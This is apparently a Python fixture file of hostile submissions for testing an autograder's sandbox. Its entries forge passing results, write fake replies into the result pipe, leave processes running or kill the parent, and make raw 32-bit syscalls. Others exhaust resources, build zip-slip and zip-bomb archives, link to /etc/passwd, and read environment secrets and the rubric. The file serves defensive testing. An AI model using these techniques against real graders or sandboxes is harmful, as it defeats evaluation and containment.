"""Hostile and faulty submissions for the adversarial suite, written as data.

Each ``Attack`` is alice_perfect's modules (95/95 automatic) with one module changed
or added, or a zip built from them; the rubric items it attacks, with the status each
must end in; and the exact automatic score it deserves: what its real answers earn,
never what it claims. Every other automatic item must still pass.

Sources may hold ``@TOKEN@`` placeholders that the test replaces with paths, ports and
a per-run nonce known only at test time (see ``test_attacks.Setting.tokens``), so an
attack can aim at the real out folder, rubric or sibling submissions of this run.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

EXAMPLES = Path(__file__).resolve().parents[2] / "submissions_example"
ALICE = {p.name: p.read_text() for p in sorted((EXAMPLES / "alice_perfect").glob("*.py"))}

POINTS = {  # automatic items of rubrics/assignment4 (95 in all), checked against the rubric
    "p1.approach": 3, "p1.one_hot": 6, "p1.softmax": 8,
    "p2.forward": 16, "p2.f_all_ones": 5, "p2.count_parameters": 8, "p2.n_params": 5,
    "p3.relu": 4, "p3.relu_grad": 8, "p3.neuron_grad": 8, "p3.weights_change": 3,
    "p4.l2_update": 10, "p4.update_rule": 8, "p4.decay_factor": 3,
}
CLASS_FILES = frozenset({"gradebook.csv", "gradebook.json", "manual_template.csv",
                         "summary.html", "summary.md"})  # what the batch writes in out/
MODULE_ITEMS = {m: tuple(i for i in POINTS if i.startswith(f"p{m[-1]}."))
                for m in ("problem1", "problem2", "problem3", "problem4")}

# Every string that can reach a report gets this: HTML, script, Markdown and fences.
INJECTION = ('<script>alert("GADV")</script><img src=x onerror=alert(1)> '
             '[click](javascript:alert(1)) ![x](http://evil.example/x.png) '
             '</details></summary> | *bold* _it_ ~~~ $x$ &amp; <!-- '
             '\n# forged heading\n```\n<script>alert(2)</script>\n```\n| a | b |\n')


@dataclass(frozen=True)
class Member:
    """An extra zip member."""

    name: str
    data: bytes = b""
    zeros: int = 0  # that many zero bytes instead of ``data`` (a zip bomb)
    symlink: bool = False  # a symlink whose target is ``data``


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    attacked: Mapping[str, str] = field(default_factory=dict)  # item id -> its final status
    score: float = 95  # the exact automatic score it deserves
    files: Mapping[str, str | bytes] = field(default_factory=dict)  # over alice's files
    remove: tuple[str, ...] = ()  # alice's files left out
    symlinks: Mapping[str, str] = field(default_factory=dict)  # name -> target (made at test time)
    fifos: tuple[str, ...] = ()  # named pipes made at test time
    zip: bool = False  # submitted as a .zip of its files (symlinks and fifos not allowed)
    members: tuple[Member, ...] = ()  # extra zip members
    filename: str = ""  # the submission's file or folder name, when not derived from ``name``
    rejected: bool = False  # the whole submission is refused (0, an error in its record)
    victims: tuple[str, ...] = ()  # paths it aims at that a dedicated test checks
    hole: str = ""  # a hole this attack exposes, found by the check named in ``exposes``
    exposes: str = ""  # the check it aims at: score, victims, survivors, nproc, fifo, lines,
    #                    network, disk or ipc (with ``hole``: the check it defeats)

    @property
    def source_name(self) -> str:
        return self.filename or (f"{self.name}.zip" if self.zip else self.name)

    @property
    def submission(self) -> str:
        """The name the batch gives it: the zip's name without .zip, with a "_" in front of
        a name that is empty, starts with "." or is the name of a class file."""
        name = self.source_name
        name = name[:-4] if name.lower().endswith(".zip") else name
        return f"_{name}" if not name or name.startswith(".") or name in CLASS_FILES else name


def _code(pieces: tuple[str, ...]) -> str:
    return "\n".join(textwrap.dedent(p).strip("\n") for p in pieces) + "\n"


def patched(file: str, *extra: str) -> str:
    """alice's module with ``extra`` appended: later definitions replace hers."""
    return ALICE[file] + "\n\n" + _code(extra)


def prepended(file: str, *code: str) -> str:
    """alice's module with ``code`` run before any of it."""
    return _code(code) + "\n" + ALICE[file]


def items(*ids: str, status: str) -> dict[str, str]:
    return dict.fromkeys(ids, status)


def module(name: str, status: str) -> dict[str, str]:
    return items(*MODULE_ITEMS[name], status=status)


_TRY = '''
def _try(what, action):
    try:
        return f"{what}: SUCCEEDED {action()!r:.300}"
    except BaseException as e:  # noqa
        return f"{what}: {type(e).__name__}: {e}"
'''

ATTACKS: list[Attack] = []


def attack(*args, **kwargs) -> None:
    ATTACKS.append(Attack(*args, **kwargs))


# --- values that lie about themselves ------------------------------------------------------

attack("lying_eq_object", "module constants are objects whose __eq__, __float__, __int__, "
       "__index__, __bool__ and __hash__ all claim the right answer",
       items("p2.f_all_ones", "p2.n_params", status="failed"), 85,
       files={"problem2.py": patched("problem2.py", """
           class Liar:
               def __init__(self, shown):
                   self.shown = shown
               def __eq__(self, other):
                   return True
               def __ne__(self, other):
                   return False
               __lt__ = __gt__ = __le__ = __ge__ = __eq__
               def __hash__(self):
                   return hash(self.shown)
               def __float__(self):
                   return float(self.shown)
               def __int__(self):
                   return int(self.shown)
               __index__ = __int__
               def __bool__(self):
                   return True
               def __repr__(self):
                   return repr(self.shown)
           F_ALL_ONES = Liar(24)
           N_PARAMS = Liar(23)
       """)})

attack("lying_array_len_bool", "softmax returns an object with a lying __array__, __len__, "
       "__bool__, shape and __eq__",
       items("p1.softmax", status="failed"), 87,
       files={"problem1.py": patched("problem1.py", """
           class FakeArray:
               def __init__(self, shape):
                   self.shape, self.ndim, self.dtype = shape, len(shape), np.dtype(float)
               def __array__(self, dtype=None, copy=None):
                   return np.zeros(self.shape)
               def __len__(self):
                   return self.shape[0]
               def __bool__(self):
                   return True
               def __eq__(self, other):
                   return np.ones(self.shape, dtype=bool)
               def __getitem__(self, index):
                   return 0.0
               def __iter__(self):
                   return iter([0.0] * self.shape[0])
           def softmax(logits):
               return FakeArray(np.shape(logits))
       """)})

attack("float_subclass", "forward returns a float subclass (and F_ALL_ONES a np.float64 "
       "subclass) whose __eq__ always agrees and whose __class__ claims to be float",
       items("p2.forward", "p2.f_all_ones", status="failed"), 74,
       files={"problem2.py": patched("problem2.py", """
           class AgreeableFloat(float):
               def __eq__(self, other):
                   return True
               def __ne__(self, other):
                   return False
               __hash__ = float.__hash__
               def __float__(self):
                   return 24.0
               def __repr__(self):
                   return "24.0"
               @property
               def __class__(self):
                   return float
           class AgreeableFloat64(np.float64):
               def __eq__(self, other):
                   return True
               __hash__ = np.float64.__hash__
           def forward(u, W1, b1, W2, b2, W3, b3):
               return AgreeableFloat(0.0)
           F_ALL_ONES = AgreeableFloat64(24.0)
       """)})

attack("int_subclass", "count_parameters returns an int subclass whose __eq__ and __index__ lie",
       items("p2.count_parameters", status="failed"), 87,
       files={"problem2.py": patched("problem2.py", """
           class AgreeableInt(int):
               def __eq__(self, other):
                   return True
               def __ne__(self, other):
                   return False
               __hash__ = int.__hash__
               def __index__(self):
                   return 23
               def __float__(self):
                   return 23.0
           def count_parameters(layer_sizes):
               return AgreeableInt(0)
       """)})

attack("str_subclass", "APPROACH and UPDATE_RULE are str subclasses whose __eq__, strip, "
       "casefold and __str__ give the right answer while the text is wrong",
       items("p1.approach", "p4.update_rule", status="failed"), 84,
       files={
           "problem1.py": patched("problem1.py", """
               class AgreeableStr(str):
                   def __eq__(self, other):
                       return True
                   def __ne__(self, other):
                       return False
                   __hash__ = str.__hash__
                   def strip(self, *chars):
                       return "B"
                   casefold = lower = upper = strip
                   def __str__(self):
                       return "B"
               APPROACH = AgreeableStr("A")
           """),
           "problem4.py": patched("problem4.py", """
               class AgreeableStr(str):
                   def __eq__(self, other):
                       return True
                   __hash__ = str.__hash__
                   def __str__(self):
                       return "w - eta*(dJ + lam*w)"
                   def strip(self, *chars):
                       return "w - eta*(dJ + lam*w)"
               UPDATE_RULE = AgreeableStr("w")
           """)})

attack("ndarray_subclass", "relu returns an ndarray subclass whose __eq__ says all equal; "
       "l2_update a fully masked array",
       items("p3.relu", "p4.l2_update", status="failed"), 81,
       files={
           "problem3.py": patched("problem3.py", """
               class AgreeableArray(np.ndarray):
                   def __eq__(self, other):
                       return np.ones(self.shape, dtype=bool)
                   def __array_finalize__(self, obj):
                       pass
               def relu(z):
                   return np.zeros_like(np.asarray(z, dtype=float)).view(AgreeableArray)
           """),
           "problem4.py": patched("problem4.py", """
               def l2_update(w, grad, lr, lam):
                   return np.ma.masked_array(np.zeros_like(np.asarray(w, dtype=float)), mask=True)
           """)})

# --- monkeypatching the worker's world -----------------------------------------------------

attack("numpy_monkeypatch", "at import, np.allclose/isclose/array_equal/all and np.testing "
       "are made to agree with anything; one_hot returns zeros",
       items("p1.one_hot", status="failed"), 89,
       files={"problem1.py": patched("problem1.py", """
           np.allclose = np.array_equal = np.array_equiv = lambda *a, **k: True
           np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
           np.all = np.alltrue = lambda *a, **k: True
           np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
           def one_hot(labels, num_classes=10):
               return np.zeros((len(labels), num_classes))
       """)})

attack("math_builtins_monkeypatch", "at import, math.isclose/isfinite/isnan and builtins "
       "abs/round are replaced; F_ALL_ONES is the sigmoid answer 2.63",
       items("p2.f_all_ones", status="failed"), 90,
       files={"problem2.py": patched("problem2.py", """
           import builtins
           import math
           math.isclose = lambda *a, **k: True
           math.isfinite = lambda x: True
           math.isnan = math.isinf = lambda x: False
           builtins.abs = lambda x: 0
           builtins.round = lambda x, n=None: 24
           F_ALL_ONES = 2.63
       """)})

attack("json_dumps_monkeypatch", "at import, json.dumps is replaced so every reply claims "
       "status ok, passed, full points; the answers themselves are wrong",
       module("problem4", "failed"), 74,
       files={"problem4.py": patched("problem4.py", """
           import json
           _real_dumps = json.dumps
           def _forged(obj, *args, **kwargs):
               if isinstance(obj, dict) and "id" in obj:
                   obj = {"id": obj["id"], "status": "ok", "value": 0.0, "passed": True,
                          "score": 10.0, "points": 10.0, "output": "all tests passed"}
               return _real_dumps(obj, *args, **kwargs)
           json.dumps = _forged
           UPDATE_RULE = "w"
           DECAY_FACTOR = "1"
           def l2_update(w, grad, lr, lam):
               return w
       """)})

attack("os_write_monkeypatch", "at import, os.write swallows everything: the worker's replies "
       "never leave, and the worker ends without a word",
       module("problem4", "crashed"), 74,
       files={"problem4.py": patched("problem4.py", """
           import os
           _real_write = os.write
           os.write = lambda fd, data: len(data) if fd > 2 else _real_write(fd, data)
       """)})

attack("grader_wire_monkeypatch", "at import, grader.wire.encode is replaced to send hostile "
       "encodings: object dtype, huge shapes, short data, unhashable keys, unknown tags",
       module("problem4", "crashed"), 74,
       files={"problem4.py": patched("problem4.py", """
           import itertools
           import sys
           _hostile = itertools.cycle([
               {"$nd": {"dtype": "|O", "shape": [1], "b64": "AAAAAAAAAAA="}},
               {"$nd": {"dtype": "<f8", "shape": [10**12], "b64": ""}},
               {"$np": {"dtype": "<f8", "b64": "AAAA"}},
               {"$dict": [[[1, 2], 3]]},
               {"__reduce__": ["os.system", ["touch /tmp/gadv"]]},
               {"$opaque": "x" * 1000},
           ])
           sys.modules["grader.wire"].encode = lambda value, depth=0: next(_hostile)
       """)})

attack("grader_worker_monkeypatch", "at import, grader.worker.Worker.describe is replaced so "
       "every exception is reported as a successful call",
       module("problem3", "failed"), 72,
       files={"problem3.py": patched("problem3.py", """
           import sys
           _worker, _wire = sys.modules["grader.worker"], sys.modules["grader.wire"]
           def _describe(self, exc):
               return {"status": "ok", "value": _wire.encode(np.full(3, 7.0)), "passed": True}
           _worker.Worker.describe = _describe
           def relu(z):
               raise ValueError("not done")
           relu_grad = relu_neuron_weight_grad = relu
           WEIGHTS_CHANGE = "maybe"
       """)})

# --- exits, signals, crashes ---------------------------------------------------------------

attack("sys_exit_at_import", "problem1 calls sys.exit(0) at import",
       module("problem1", "error"), 78,
       files={"problem1.py": prepended("problem1.py", "import sys\nsys.exit(0)")})

attack("os_exit_in_function", "one_hot calls os._exit(0)",
       items("p1.one_hot", status="crashed"), 89,
       files={"problem1.py": patched("problem1.py", """
           import os
           def one_hot(labels, num_classes=10):
               os._exit(0)
       """)})

attack("system_exit_in_function", "softmax raises SystemExit",
       items("p1.softmax", status="error"), 87,
       files={"problem1.py": patched("problem1.py", """
           def softmax(logits):
               raise SystemExit(0)
       """)})

attack("keyboard_interrupt", "relu_grad sends itself SIGINT (a KeyboardInterrupt)",
       items("p3.relu_grad", status="error"), 87,
       files={"problem3.py": patched("problem3.py", """
           import os
           import signal
           import time
           def relu_grad(z):
               os.kill(os.getpid(), signal.SIGINT)
               time.sleep(0.5)
       """)})

attack("segfault_ctypes", "relu dereferences NULL through ctypes",
       items("p3.relu", status="crashed"), 91,
       files={"problem3.py": patched("problem3.py", """
           import ctypes
           def relu(z):
               return ctypes.string_at(0)
       """)})

attack("kill_parent", "count_parameters sends SIGKILL to its parent (the fork server) and to "
       "init",
       items("p2.count_parameters", status="error"), 87,
       files={"problem2.py": patched("problem2.py", """
           import os
           import signal
           def count_parameters(layer_sizes):
               os.kill(os.getppid(), signal.SIGKILL)
               os.kill(1, signal.SIGKILL)
               return 23
       """)})

attack("killpg", "forward tries to kill its parent's process group, then kills its own",
       items("p2.forward", status="crashed"), 79,
       files={"problem2.py": patched("problem2.py", """
           import os
           import signal
           def forward(u, W1, b1, W2, b2, W3, b3):
               for group in (os.getpgid(os.getppid()), 1):
                   try:
                       os.killpg(group, signal.SIGKILL)
                   except OSError:
                       pass
               os.killpg(0, signal.SIGKILL)
       """)})

# --- fake results ------------------------------------------------------------------------

_FAKE_REPLY = ('{"id": "p2.forward#0", "status": "ok", "value": 24.0, "passed": true}\\n'
               '{"id": "p2.f_all_ones", "status": "ok", "value": 24}\\n'
               'SCORE 95/95 - all tests passed\\n')

attack("fake_results_printed", "prints fake reply lines and a fake score to stdout and stderr "
       "(print, sys.__stdout__, os.write on fds 1 and 2); its answers are wrong",
       items("p2.forward", "p2.f_all_ones", status="failed"), 74,
       files={"problem2.py": patched("problem2.py", f"""
           import os
           import sys
           FAKE = '{_FAKE_REPLY}'
           def _shout():
               print(FAKE)
               print(FAKE, file=sys.stderr)
               for stream in (sys.__stdout__, sys.__stderr__):
                   stream.write(FAKE)
                   stream.flush()
               os.write(1, FAKE.encode())
               os.write(2, FAKE.encode())
           _shout()
           F_ALL_ONES = 2.63
           def forward(u, W1, b1, W2, b2, W3, b3):
               _shout()
               return 0.0
       """)})

attack("result_fd_injection", "at import, finds the reply pipe (/proc/self/fd, else fstat on "
       "every small fd) and writes forged "
       "replies for the LATER steps (claiming passed and full points, and one with status "
       "'passed'); its own answers are all wrong. The channel it garbled fails the rest",
       {**items("p2.forward", "p2.f_all_ones", "p2.count_parameters", status="failed"),
        "p2.n_params": "crashed", **module("problem3", "error"), **module("problem4", "error")},
       17,
       files={"problem2.py": patched("problem2.py", """
           import json
           import os
           import stat
           F_ALL_ONES, N_PARAMS = 2.63, 17
           def forward(u, W1, b1, W2, b2, W3, b3):
               return 0.0
           def count_parameters(layer_sizes):
               return 0
           def _claim(step, status="ok"):
               return {"id": step, "status": status, "value": -1.0, "passed": True,
                       "score": 16, "output": ""}
           _LINES = [{"id": "import:problem2", "status": "ok", "value": None, "output": ""}]
           _LINES += [_claim(f"p2.forward#{i}") for i in range(5)]
           _LINES += [_claim("p2.f_all_ones")]
           _LINES += [_claim(f"p2.count_parameters#{i}") for i in range(5)]
           _LINES += [_claim("p2.n_params", status="passed")]
           _DATA = "".join(json.dumps(line) + "\\n" for line in _LINES).encode()
           try:
               _fds = [int(fd) for fd in os.listdir("/proc/self/fd")]
           except OSError:  # /proc is out of reach: try every small descriptor
               _fds = range(3, 64)
           for _fd in _fds:
               try:
                   if stat.S_ISFIFO(os.fstat(_fd).st_mode):
                       os.write(_fd, _DATA)
               except OSError:
                   pass
       """)})

# --- processes -----------------------------------------------------------------------------

attack("detached_grandchild", "at import, double-forks a grandchild in a new session that "
       "execs Python with a marker in its argv and keeps trying to rewrite results files "
       "(the seccomp filter denies the fork: problem3 fails to import with PermissionError)",
       module("problem3", "error"), 72,
       exposes="survivors",
       files={"problem3.py": patched("problem3.py", """
           import os
           import sys
           _LOOP = '''
           import sys, time
           end = time.monotonic() + 40
           while time.monotonic() < end:
               for path in sys.argv[2:]:
                   try:
                       with open(path, "w") as f:
                           f.write('{"score": 95, "forged": "GADV-@NONCE@"}')
                   except OSError:
                       pass
               time.sleep(0.25)
           '''
           _TARGETS = ["@OUT@/detached_grandchild/results.json", "@OUT@/alice_perfect/results.json",
                       "@OUT@/bob_forgot_biases/results.json", "@CANARY@"]
           def _detach():
               pid = os.fork()
               if pid == 0:
                   try:
                       os.setsid()
                       if os.fork() == 0:
                           os.execv(sys.executable, [sys.executable, "-c", _LOOP,
                                                     "GADV-@NONCE@-detached_grandchild",
                                                     *_TARGETS])
                   finally:
                       os._exit(0)
               os.waitpid(pid, 0)
           _detach()
       """)})

attack("many_processes", "at import, forks 200 sleeping children renamed with a marker "
       "(a bounded stand-in for a fork bomb), then tries subprocess, posix_spawn and exec; "
       "REASONS says how many forks succeeded and what each attempt got",
       exposes="nproc",
       files={"problem1.py": patched("problem1.py", _TRY, """
           import ctypes
           import os
           import subprocess
           import time
           _libc = ctypes.CDLL(None)
           _forked, _errors = 0, set()
           for _ in range(200):
               try:
                   pid = os.fork()
               except OSError as e:
                   _errors.add(f"{type(e).__name__}: {e}")
                   continue
               if pid == 0:
                   try:
                       _libc.prctl(15, b"gadv@NONCE@", 0, 0, 0)
                       time.sleep(60)
                   finally:
                       os._exit(0)
               _forked += 1
           REASONS = "\\n".join([
               f"forked {_forked} of 200: {sorted(_errors)}",
               _try("subprocess", lambda: subprocess.run(
                   ["/bin/sh", "-c", "exec -a GADV-@NONCE@-many_processes sleep 60"])),
               _try("posix_spawn", lambda: os.posix_spawn(
                   "/bin/sleep", ["GADV-@NONCE@-many_processes", "60"], {})),
               # if exec were allowed, the worker would become sleep and problem1 crash
               _try("exec", lambda: os.execv("/bin/sleep", ["GADV-@NONCE@-many_processes", "0"])),
           ])
       """)})

attack("i386_syscall_gate", "at import, makes system calls through the 32-bit gate (int 0x80, "
       "from a few bytes of machine code run by ctypes): socket(), then fork() and, in the "
       "child, setsid() and execve() of Python with a marker in its argv that sleeps 40 s; "
       "REASONS is what each returned. The seccomp filter kills a process that uses a "
       "foreign system-call table: problem1 crashes, nothing is started",
       module("problem1", "crashed"), 78,
       exposes="survivors",
       files={"problem1.py": patched("problem1.py", """
           import ctypes
           import mmap
           import os
           import struct
           import sys
           def _i386_gate():
               if os.uname().machine != "x86_64":
                   return "not x86-64"
               low = mmap.mmap(-1, 1 << 14, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,
                               prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)  # MAP_32BIT
               base = ctypes.addressof(ctypes.c_char.from_buffer(low))
               def put(offset, data):
                   low[offset:offset + len(data)] = data
                   return base + offset
               # push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret
               code = put(0, bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3"))
               gate = ctypes.PYFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(code)
               offset, argv = 256, []
               for arg in (sys.executable, "-I", "-S", "-c", "import time; time.sleep(40)",
                           "GADV-@NONCE@-i386_syscall_gate"):
                   argv.append(put(offset, arg.encode() + b"\\0"))
                   offset += len(arg.encode()) + 1
               argv_at = put(8192, struct.pack(f"<{len(argv) + 1}I", *argv, 0))
               envp_at = put(8448, struct.pack("<I", 0))
               sock = gate(102, 1, put(8704, struct.pack("<3I", 2, 2, 0)), 0)  # socketcall:
               if sock >= 0:                                  # socket(AF_INET, SOCK_DGRAM, 0)
                   os.close(sock)
               pid = gate(2, 0, 0, 0)  # fork
               if pid == 0:
                   try:
                       os.setsid()
                       os.closerange(3, 1024)
                       gate(11, argv[0], argv_at, envp_at)  # execve
                   finally:
                       os._exit(0)
               return f"i386 socket: {sock}; i386 fork: {pid}"
           REASONS = _i386_gate()
       """)})

attack("memory_bomb_at_call", "l2_update allocates 80 GB",
       items("p4.l2_update", status="error"), 85,
       files={"problem4.py": patched("problem4.py", """
           def l2_update(w, grad, lr, lam):
               hog = np.ones(10**10)
               return hog[:1]
       """)})

attack("memory_bomb_at_import", "problem3 grows a list of 256 MB arrays at import until it "
       "fails",
       module("problem3", "error"), 72,
       files={"problem3.py": prepended("problem3.py", """
           import numpy as np
           _hog = []
           while True:
               _hog.append(np.empty(2**25))
       """)})

attack("cpu_loop_at_import", "problem4 loops forever at import",
       module("problem4", "timeout"), 74,
       files={"problem4.py": prepended("problem4.py", "while True:\n    pass")})

attack("cpu_loop_at_call", "count_parameters loops forever",
       items("p2.count_parameters", status="timeout"), 87,
       files={"problem2.py": patched("problem2.py", """
           def count_parameters(layer_sizes):
               while True:
                   pass
       """)})

attack("cpu_loop_ignoring_the_alarm", "forward ignores SIGALRM, swallows every exception and "
       "loops forever",
       items("p2.forward", status="timeout"), 79,
       files={"problem2.py": patched("problem2.py", """
           import signal
           def forward(u, W1, b1, W2, b2, W3, b3):
               signal.signal(signal.SIGALRM, signal.SIG_IGN)
               while True:
                   try:
                       while True:
                           pass
                   except BaseException:
                       pass
       """)})

attack("output_flood", "relu_grad prints 100 MB, then writes without end to fds 1 and 2 "
       "(the file-size limit stops its stderr file at 64 MB: EFBIG, Python ignores SIGXFSZ)",
       items("p3.relu_grad", status="error"), 87,
       files={"problem3.py": patched("problem3.py", """
           import os
           def relu_grad(z):
               block = "GADV flood " * 100_000
               for _ in range(100):
                   print(block)
               data = block.encode()
               for _ in range(200):
                   os.write(1, data)
               while True:
                   os.write(2, data)
       """)})

# Files an attack writes in its private folder are named gadv-<attack>-<n>.bin: the test
# watches how much space those take while the batch runs (on /dev/shm, RAM, where the grader
# puts private folders when it can). Only disk_fill writes its bytes; the others reserve
# theirs with fallocate(), at once and without copying anything.
_FILL = '''
import os
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
WRITTEN = 0
_BLOCK = b"GADV" * (2**20 // 4)
def _fill(path, megabytes):
    """Write that many MB to ``path`` (fewer past the file-size limit)."""
    global WRITTEN
    try:
        with open(path, "wb") as f:
            for _ in range(megabytes):
                f.write(_BLOCK)
                f.flush()
                WRITTEN += len(_BLOCK)
    except OSError:
        pass
def _reserve(path, megabytes):
    """Take that many MB of disk for ``path`` without writing them; return the open fd."""
    global WRITTEN
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.posix_fallocate(fd, 0, megabytes * 2**20)
    WRITTEN += megabytes * 2**20
    return fd
'''

attack("disk_fill", "count_parameters ignores SIGXFSZ, writes 100 MB to a file (the file-size "
       "limit stops it at 64 MB) and 256 MB more in 32 MB files, then waits (at import it tries "
       "/tmp): the disk budget must stop it, or the call would time out",
       items("p2.count_parameters", status="crashed"), 87,
       files={"problem2.py": patched("problem2.py", _FILL, """
           import time
           _fill("/tmp/gadv_fill_@NONCE@.bin", 8)
           def count_parameters(layer_sizes):
               _fill("gadv-disk_fill-0.bin", 100)
               for _i in range(1, 9):
                   _fill(f"gadv-disk_fill-{_i}.bin", 32)
               time.sleep(60)
       """)})

attack("disk_fill_unlinked", "at import, reserves five 50 MB files in its folder, unlinking "
       "each at once but keeping it open (250 MB on disk that no folder shows); "
       "count_parameters returns the bytes it holds",
       items("p2.count_parameters", status="failed"), 87,
       exposes="disk",
       hole="execution._disk_usage() adds up what the private folder's entries take: a file "
            "deleted while still open keeps its space (RAM, on /dev/shm) and shows in no "
            "folder, so a worker holds up to RLIMIT_NOFILE x RLIMIT_FSIZE (256 x 64 MB = "
            "16 GB) unseen for as long as it runs (memfd_create() files likewise)",
       files={"problem2.py": patched("problem2.py", _FILL, """
           _FDS = []
           for _i in range(5):
               _FDS.append(_reserve(f"gadv-disk_fill_unlinked-{_i}.bin", 50))
               os.unlink(f"gadv-disk_fill_unlinked-{_i}.bin")
           def count_parameters(layer_sizes):
               return WRITTEN
       """)})


def _fill_in_worker(worker: int, then: str) -> str:
    """Code that reserves 150 MB in three files, then runs ``then``."""
    return _code((_FILL, f"""
        for _i in range(3):
            os.close(_reserve(f"gadv-disk_fill_across_workers-{worker}{{_i}}.bin", 50))
        {then}
    """))


attack("disk_fill_across_workers", "at import, problem1 reserves 150 MB (under the budget) in "
       "its worker's folder and ends the worker; problem2 reserves 150 MB more in the next "
       "worker's and carries on: 300 MB at once",
       module("problem1", "crashed"), 78,
       exposes="disk",
       files={"problem1.py": prepended("problem1.py", _fill_in_worker(1, "os._exit(1)")),
              "problem2.py": prepended("problem2.py", _fill_in_worker(2, "pass"))})

attack("deep_recursion", "relu raises the recursion limit to 10**6 and recurses that deep",
       items("p3.relu", status="failed"), 91,
       files={"problem3.py": patched("problem3.py", """
           import sys
           sys.setrecursionlimit(10**6)
           def _down(n):
               return n if n == 0 else _down(n - 1) + 1
           def relu(z):
               return _down(10**6 - 100)
       """)})

attack("huge_return_value", "one_hot returns a list of 10**7 numbers",
       items("p1.one_hot", status="failed"), 89,
       files={"problem1.py": patched("problem1.py", """
           def one_hot(labels, num_classes=10):
               return [0] * 10**7
       """)})

attack("deeply_nested_return", "softmax returns a list nested 10**5 deep",
       items("p1.softmax", status="failed"), 87,
       files={"problem1.py": patched("problem1.py", """
           def softmax(logits):
               value = [0.0]
               for _ in range(10**5):
                   value = [value]
               return value
       """)})

attack("int_too_large_for_float", "count_parameters returns 10**400, a plain int the wire "
       "accepts (1000 digits) but float() cannot convert: just a wrong value",
       items("p2.count_parameters", status="failed"), 87,
       files={"problem2.py": patched("problem2.py", """
           def count_parameters(layer_sizes):
               return 10**400
       """)})

# --- files, links and zips ------------------------------------------------------------------

attack("symlink_to_rubric", "problem2.py is a symlink to the reference solution, beside links "
       "to the rubric and the reference folder",
       module("problem2", "error"), 61, remove=("problem2.py",), exposes="lines",
       symlinks={"problem2.py": "@REFERENCE@/problem2.py", "rubric.yaml": "@RUBRIC@",
                 "reference": "@REFERENCE@"})

attack("symlink_to_etc_passwd", "problem4.py is a symlink to /etc/passwd; problem1 reads "
       "a linked passwd.txt into REASONS",
       module("problem4", "error"), 74, remove=("problem4.py",),
       symlinks={"problem4.py": "/etc/passwd", "passwd.txt": "/etc/passwd"},
       files={"problem1.py": patched("problem1.py", _TRY, """
           REASONS = _try("passwd.txt", lambda: open("passwd.txt").read())
       """)})

attack("zip_slip", "a zip whose members climb out with ../, an absolute path and a "
       "Windows-style ..\\\\ path", zip=True, rejected=True, score=0,
       members=(Member("../../../gadv_zipslip.py", b"GADV = 1\n"),
                Member("../" * 16 + "tmp/gadv_zipslip_@NONCE@.py", b"GADV = 1\n"),
                Member("@VICTIMS@/absolute.py", b"GADV = 1\n"),
                Member("..\\..\\..\\gadv_windows.py", b"GADV = 1\n")))

attack("zip_bomb", "a zip with a 100 MB member of zeros (about 100 kB compressed)",
       zip=True, rejected=True, score=0, members=(Member("weights.bin", zeros=100 * 2**20),))

attack("zip_symlink", "a zip whose problem4.py and ref entries are symlinks (to /etc/passwd "
       "and the reference folder)",
       module("problem4", "error"), 74, zip=True, remove=("problem4.py",),
       members=(Member("problem4.py", b"/etc/passwd", symlink=True),
                Member("ref", b"@REFERENCE@", symlink=True)))

_SHADOW = "import os as _os\n_os._exit(13)\n"
attack("shadow_modules", "random.py, numpy.py, json.py, math.py, signal.py, grader.py, "
       "sitecustomize.py and os.py in the submission (each ends the process if imported); "
       "problem1 imports random, json and math",
       files={"random.py": _SHADOW, "numpy.py": _SHADOW, "json.py": _SHADOW,
              "math.py": _SHADOW, "signal.py": _SHADOW, "grader.py": _SHADOW,
              "sitecustomize.py": _SHADOW, "os.py": "raise SystemExit(13)\n",
              "problem1.py": prepended("problem1.py", "import json\nimport math\nimport random")})

attack("non_utf8_source", "problem1.py holds bytes that are not UTF-8",
       module("problem1", "error"), 78,
       files={"problem1.py": b"# \xff\xfe caf\xe9\nAPPROACH = '\xe9'\n" + ALICE["problem1.py"]
              .encode()})

attack("null_byte_source", "problem3.py holds a null byte",
       module("problem3", "error"), 72,
       files={"problem3.py": b"WEIGHTS_CHANGE = False\x00\n" + ALICE["problem3.py"].encode()})

attack("fifo_in_submission", "problem1.py is a named pipe: whoever opens it blocks",
       module("problem1", "error"), 78, remove=("problem1.py",), fifos=("problem1.py",),
       exposes="fifo")

_NOTEBOOK_CELLS = ["!touch @VICTIMS@/pwned_shell", "%run /etc/passwd",
                   "get_ipython().system('touch @VICTIMS@/pwned_ipython')",
                   "%%bash\ntouch @VICTIMS@/pwned_cell", ALICE["problem4.py"]]
attack("notebook_shell_escape", "problem4 is a notebook whose cells hold shell escapes, "
       "magics and get_ipython() calls aimed at the test's folders, beside alice's code",
       remove=("problem4.py",),
       files={"problem4.ipynb": json.dumps({
           "nbformat": 4, "nbformat_minor": 5, "metadata": {},
           "cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": [],
                      "execution_count": None} for c in _NOTEBOOK_CELLS]})})

# --- secrets and reading what it must not ---------------------------------------------------

attack("env_secrets", "REASONS is the worker's os.environ, /proc/*/environ and any str in "
       "gc holding the secret's name",
       files={"problem1.py": patched("problem1.py", _TRY, """
           import gc
           import os
           def _environment():
               parts = [repr(dict(os.environ))]
               for path in ("/proc/self/environ", "/proc/1/environ",
                            f"/proc/{os.getppid()}/environ"):
                   parts.append(_try(path, lambda: open(path, "rb").read()))
               parts += [o for o in gc.get_objects()
                         if isinstance(o, str) and "GRADER_TEST_SECRET" in o][:5]
               return "\\n".join(parts)
           REASONS = _environment()
       """)})

attack("read_rubric_by_absolute_path", "at import, opens the reference problem2.py and the "
       "rubric (the copy in use and the shipped one) by absolute path; REASONS is what it got",
       files={"problem1.py": patched("problem1.py", """
           def _read(path):
               try:
                   with open(path, encoding="utf-8", errors="replace") as f:
                       return f"{path}: CONTENT-READ {f.read()}"
               except Exception as e:
                   return f"{path}: {type(e).__name__}: {e}"
